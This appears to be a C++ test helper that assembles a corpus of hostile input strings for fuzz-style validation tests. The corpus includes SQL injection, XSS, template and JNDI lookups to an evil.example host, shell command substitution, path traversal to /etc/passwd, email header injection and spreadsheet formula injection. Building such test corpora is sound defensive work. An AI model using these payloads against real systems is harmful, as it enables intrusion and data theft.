#include "support/hostile_strings.hpp"

#include "base/unicode.hpp"

#include <set>
#include <string_view>

namespace latchkey::testing {

namespace {

std::string utf8(char32_t code_point) {
    return utf8_from_utf32(std::u32string(1, code_point)).value_or("");
}

/// Control, bidi, invisible and other letters that are not what they look like.
std::vector<std::string> letters() {
    std::vector<std::string> found;
    const auto add_range = [&found](char32_t first, char32_t last) {
        for (char32_t letter = first; letter <= last; ++letter) {
            found.push_back(utf8(letter));
        }
    };
    add_range(0x00, 0x1F); // C0
    add_range(0x7F, 0x9F); // DEL and C1
    add_range(0x200B, 0x200F);
    add_range(0x2028, 0x202E); // line and paragraph separators, bidi
    add_range(0x2060, 0x2069);
    add_range(0xFFF0, 0xFFFD);
    add_range(0xFE00, 0xFE0F);
    for (const char32_t letter :
         {0xA0,   0xAD,   0x034F,  0x0130,  0x0131,  0x017F,  0x0345,  0x061C,  0x115F,  0x180E,
          0x1E9E, 0x212A, 0x3000,  0x3164,  0xE000,  0xFB01,  0xFDFA,  0xFEFF,  0xFF20,  0xFF1C,
          0xFFFE, 0xFFFF, 0x1D173, 0x1F4A9, 0x1F468, 0xE0001, 0xE0041, 0xF0000, 0x10FFFF}) {
        found.push_back(utf8(letter));
    }
    return found;
}

std::vector<std::string> phrases() {
    return {
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "\" OR \"\"=\"",
        "1; ATTACH DATABASE 'x' AS y",
        "' UNION SELECT password_hash FROM users --",
        "%",
        "_",
        "%%",
        "\\",
        "\\'",
        "''",
        "`",
        "$1",
        ":id",
        "?",
        "?1",
        "/* */",
        "--",
        "0x27",
        "CHAR(39)",
        "' || sqlite_version() || '",
        "\\x27",
        "NULL",
        "null",
        "undefined",
        "NaN",
        "Infinity",
        "-1",
        "1e309",
        "0",
        "true",
        "false",
        "[]",
        "{}",
        "[object Object]",
        "__proto__",
        "constructor",
        "toString",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "<b>bold",
        "</title><script>",
        "<!--",
        "-->",
        "]]>",
        "<![CDATA[",
        "<?php",
        "<%= 1 %>",
        "&lt;",
        "&#x3C;",
        "&amp;amp;",
        "<a href=http://evil.example>x</a>",
        "{{secret}}",
        "{{{secret}}}",
        "{{#full_name}}",
        "{{/full_name}}",
        "{{>partial}}",
        "{{=<% %>=}}",
        "{% raw %}",
        "${7*7}",
        "#{7*7}",
        "${jndi:ldap://evil.example/x}",
        "%n%n%n%n",
        "%s%s%s",
        "%p",
        "{}",
        "{0}",
        "{:d}",
        "{",
        "}",
        "\r\nBcc: victim@example.org",
        "\nBcc: victim@example.org",
        "\r\n\r\n<html>",
        "=?UTF-8?Q?Bcc:_x?=",
        "=?utf-8?b?QmNjOiB4?=",
        "\r\n.\r\nMAIL FROM:<x@example.org>",
        ".",
        "\r\n.\r\n",
        "RCPT TO:<x@example.org>",
        "a@example.org, b@example.org",
        "<a@example.org>",
        "\"quoted\"@example.org",
        "a@b@example.org",
        "a@example.org>",
        "a@[127.0.0.1]",
        "a@xn--nxasmq6b",
        "Set-Cookie: x=y",
        "\r\nSet-Cookie: x=y",
        "x; Path=/",
        "x=y; HttpOnly",
        "HTTP/1.1 200 OK",
        "GET / HTTP/1.1",
        "Content-Length: 0",
        "../../etc/passwd",
        "..\\..\\windows",
        "/etc/passwd",
        "file:///etc/passwd",
        "C:\\",
        "CON",
        "aux.txt",
        "~root",
        "$(id)",
        "`id`",
        "; id",
        "| id",
        "&& id",
        "$HOME",
        "%USERPROFILE%",
        "\x1b[31mred\x1b[0m",
        "\x1b]0;title\x07",
        "\x1b[2J",
        "\u009b31m",
        "a\rb",
        "a\nb",
        "a\tb",
        "a\vb",
        "a\fb",
        "a\bb",
        "2026-11-23 10:00:00 [error] forged",
        "\n2026-11-23 [error] forged",
        "{\"level\":\"error\"}",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example\")",
        "\u202egro.elpmaxe@nimda",
        "a\u0300\u0301\u0302\u0303",
        "\u0041\u030a",
        "\u212b",
        "\ufb01le",
        "\u1e9e",
        "\u0130stanbul",
        "\u017fecret",
        "ﬀ",
        "Ａｄｍｉｎ",
        "аdmin",
        "admin\u200b",
        "\u200badmin",
        "ad\u00admin",
        "admin\u00a0",
        " admin",
        "admin ",
        "ADMIN",
        "root",
        "\u3000",
        "\U0001F468\u200D\U0001F469\u200D\U0001F467",
        "\U0001F1F8\U0001F1FB",
        "e\u0301",
        "\u00e9",
        "שלום",
        "مرحبا",
        "นี่",
        "ｶﾞ",
        "𝕬𝖉𝖒𝖎𝖓",
        "ᴬᴰᴹᴵᴺ",
        "①②③",
        "Ⅳ",
        "½",
        "٠١٢٣٤٥",
        "၁၂၃"};
}

std::vector<std::string> lengths() {
    std::vector<std::string> found;
    for (const std::size_t length :
         {1U,
          63U,
          64U,
          65U,
          100U,
          101U,
          127U,
          128U,
          150U,
          151U,
          253U,
          254U,
          255U,
          256U,
          257U,
          1023U,
          1024U,
          1025U,
          4096U}) {
        found.emplace_back(length, 'x');
        found.push_back("Aa@" + std::string(length, ' '));
    }
    return found;
}

} // namespace

std::vector<std::string> hostile_strings() {
    std::set<std::string> all;
    for (const std::string& letter : letters()) {
        all.insert(letter);
        all.insert("Ada" + letter + "Lovelace");
    }
    for (const std::string& phrase : phrases()) {
        all.insert(phrase);
        all.insert("Passw0rd@" + phrase);
    }
    for (const std::string& text : lengths()) {
        all.insert(text);
    }
    return {all.begin(), all.end()};
}

} // namespace latchkey::testing
